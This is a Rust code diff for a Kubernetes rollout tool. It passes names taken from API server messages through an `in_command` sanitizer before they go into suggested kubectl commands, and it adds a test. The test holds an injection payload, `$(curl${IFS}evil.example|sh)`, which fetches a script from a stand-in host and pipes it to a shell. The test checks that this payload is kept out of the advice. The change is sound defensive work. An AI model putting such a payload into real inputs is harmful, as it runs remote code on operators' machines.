@@ -2,6 +2,7 @@
 
 use super::WaitCause;
 use crate::hints::Failure;
+use crate::lines::in_command;
 use flotilla_api::names;
 use serde_json::Value;
 
@@ -35,12 +36,23 @@ impl Whom<'_> {
         }
     }
 
+    /// The set in a command.
+    fn set(&self) -> String {
+        self.set.split('/').map(in_command).collect::<Vec<_>>().join("/")
+    }
+
+    /// Its namespace in a command.
+    fn namespace(&self) -> &str {
+        in_command(self.namespace)
+    }
+
     fn describe(&self, kind: &str, name: &str) -> String {
-        format!("kubectl describe {kind} {name} -n {}", self.namespace)
+        format!("kubectl describe {kind} {} -n {}", in_command(name), self.namespace())
     }
 
     fn logs(&self, pod: &str, container: &str) -> String {
-        format!("kubectl logs {pod} -c {container} -n {}", self.namespace)
+        let (pod, container) = (in_command(pod), in_command(container));
+        format!("kubectl logs {pod} -c {container} -n {}", self.namespace())
     }
 
     fn delete(&self, pod: &str) -> String {
@@ -50,11 +62,15 @@ impl Whom<'_> {
         } else {
             ""
         };
-        format!("kubectl delete pod {pod} -n {}{warning}", self.namespace)
+        format!(
+            "kubectl delete pod {} -n {}{warning}",
+            in_command(pod),
+            self.namespace()
+        )
     }
 
     fn edit(&self) -> String {
-        format!("kubectl edit {} -n {}", self.set, self.namespace)
+        format!("kubectl edit {} -n {}", self.set(), self.namespace())
     }
 
     /// What to correct where the API server refused a pod for a volume that is, or was, made of a claim template: the pod template, and the
@@ -81,7 +97,11 @@ impl Whom<'_> {
     /// Going back, or what there is where one cannot.
     fn go_back(&self) -> String {
         if self.can_go_back {
-            format!("roll back: flotilla rollout undo {} -n {}", self.set, self.namespace)
+            format!(
+                "roll back: flotilla rollout undo {} -n {}",
+                self.set(),
+                self.namespace()
+            )
         } else {
             format!("correct the template: {}", self.edit())
         }
@@ -126,7 +146,7 @@ impl WaitCause {
                 )
             }
             WaitCause::Partition { .. } => format!("lower the partition to go on: {}", whom.edit()),
-            WaitCause::Paused => format!("resume: flotilla rollout resume {} -n {}", whom.set, whom.namespace),
+            WaitCause::Paused => format!("resume: flotilla rollout resume {} -n {}", whom.set(), whom.namespace()),
             WaitCause::OnDelete { .. } => {
                 let cost = if whom.loses_claims {
                     ", whose claims and data go with them"
@@ -135,7 +155,7 @@ impl WaitCause {
                 };
                 format!(
                     "delete the old pods when it suits you{cost}; see them: kubectl get pods -L controller-revision-hash -n {}",
-                    whom.namespace
+                    whom.namespace()
                 )
             }
             WaitCause::StartBackOff { .. } => {
@@ -143,8 +163,9 @@ impl WaitCause {
             }
             WaitCause::RevisionLeaving => {
                 format!(
-                    "the garbage collector lets it go; if it does not, remove its owner reference: kubectl edit controllerrevision {subject} -n {}",
-                    whom.namespace
+                    "the garbage collector lets it go; if it does not, remove its owner reference: kubectl edit controllerrevision {} -n {}",
+                    in_command(subject),
+                    whom.namespace()
                 )
             }
             WaitCause::OrdinalTooLarge { .. } => {
@@ -201,8 +222,9 @@ impl WaitCause {
             }
             WaitCause::ChangedByOthers { .. } => {
                 format!(
-                    "see which webhook changes it: kubectl get pod {subject} -n {} --show-managed-fields -o yaml",
-                    whom.namespace
+                    "see which webhook changes it: kubectl get pod {} -n {} --show-managed-fields -o yaml",
+                    in_command(subject),
+                    whom.namespace()
                 )
             }
             WaitCause::ClaimIncompatible { .. } => format!(
@@ -217,12 +239,12 @@ impl WaitCause {
             WaitCause::Refused { reason, message, .. } | WaitCause::RevisionRefused { reason, message, .. } => match reason.as_str() {
                 "QuotaExceeded" => format!(
                     "raise the namespace's ResourceQuota, or free some of it: kubectl describe resourcequota -n {}",
-                    whom.namespace
+                    whom.namespace()
                 ),
                 "ServiceAccountMissing" => format!(
                     "create the service account that the template names: kubectl create serviceaccount {} -n {}",
                     missing_account(message),
-                    whom.namespace
+                    whom.namespace()
                 ),
                 "Invalid" => {
                     let correct = whom.correct_claims(message);
@@ -233,7 +255,7 @@ impl WaitCause {
             },
             WaitCause::RevisionUnproven { reason, all_at_once: true, .. } if reason == Failure::QUOTA_EXCEEDED => format!(
                 "raise the namespace's ResourceQuota, or free some of it, if pods are missing: kubectl describe resourcequota -n {}",
-                whom.namespace
+                whom.namespace()
             ),
             WaitCause::RevisionUnproven { all_at_once: true, .. } => format!(
                 "let the webhook that the message names take dry runs (sideEffects None), or update by RollingUpdate until one new pod is there: {}",
@@ -242,7 +264,7 @@ impl WaitCause {
             WaitCause::Repeated { .. } => {
                 format!(
                     "find out what undoes it, such as another controller or a webhook: kubectl get events -n {}",
-                    whom.namespace
+                    whom.namespace()
                 )
             }
             other => return other.advice_in_place(subject, whom),
@@ -254,23 +276,26 @@ impl WaitCause {
         Some(match self {
             WaitCause::LifecycleState { .. } => {
                 format!(
-                    "if nobody else takes the label off: kubectl label pod {subject} {}- -n {}",
+                    "if nobody else takes the label off: kubectl label pod {} {}- -n {}",
+                    in_command(subject),
                     names::LIFECYCLE_STATE_LABEL,
-                    whom.namespace
+                    whom.namespace()
                 )
             }
             WaitCause::HookHolds { markers, .. } => {
                 format!(
-                    "whoever owns the hook has to take away {} from pod {subject}: kubectl edit pod {subject} -n {}",
+                    "whoever owns the hook has to take away {} from pod {subject}: kubectl edit pod {} -n {}",
                     markers.join(", "),
-                    whom.namespace
+                    in_command(subject),
+                    whom.namespace()
                 )
             }
             WaitCause::HookLacks { markers, .. } => {
                 format!(
-                    "whoever owns the hook has to put {} on pod {subject}: kubectl edit pod {subject} -n {}",
+                    "whoever owns the hook has to put {} on pod {subject}: kubectl edit pod {} -n {}",
                     markers.join(", "),
-                    whom.namespace
+                    in_command(subject),
+                    whom.namespace()
                 )
             }
             WaitCause::LaunchBarrier { barrier, behind, .. } => match behind.first() {
@@ -338,7 +363,9 @@ impl WaitCause {
 fn missing_account(message: &str) -> &str {
     let named = message.split_once("service account ").map(|(_, rest)| rest);
     let name = named.and_then(|rest| rest.split([' ', ',', ':']).next());
-    name.map_or("NAME", |name| name.rsplit('/').next().unwrap_or(name))
+    let name = name.and_then(|name| name.rsplit('/').next());
+    // The API server says the name as the template has it, whatever that is.
+    in_command(name.unwrap_or_default())
 }
 
 #[cfg(test)]
@@ -464,5 +491,33 @@ mod tests {
     fn the_account_that_is_missing_is_named() {
         let said = "pods \"web-0\" is forbidden: error looking up service account shop/robot: serviceaccount \"robot\" not found";
         assert_eq!(missing_account(said), "robot");
+    }
+
+    #[test]
+    fn what_others_wrote_gets_into_no_command() {
+        const EVIL: &str = "$(curl${IFS}evil.example|sh)";
+        let said = format!("error looking up service account shop/{EVIL}: serviceaccount \"{EVIL}\" not found");
+        for (cause, subject, command) in [
+            (
+                WaitCause::of_refused_trial("ServiceAccountMissing".to_owned(), said, Timestamp::from_millis(0)),
+                "web-abc",
+                "kubectl create serviceaccount NAME -n shop",
+            ),
+            (
+                WaitCause::ContainerCannotStart {
+                    container: EVIL.into(),
+                    reason: "CrashLoopBackOff".into(),
+                    message: String::new(),
+                },
+                "web-2",
+                "kubectl logs web-2 -c NAME -n shop",
+            ),
+            (WaitCause::InPlaceUnreadable, EVIL, "kubectl delete pod NAME -n shop"),
+            (WaitCause::ClaimTerminating, EVIL, "kubectl describe pvc NAME -n shop"),
+        ] {
+            let advice = cause.advice(subject, &Whom::of("statefulset.apps/web", "shop"));
+            let advice = advice.expect("advice");
+            assert!(advice.contains(command) && !advice.contains(EVIL), "{advice}");
+        }
     }
 }
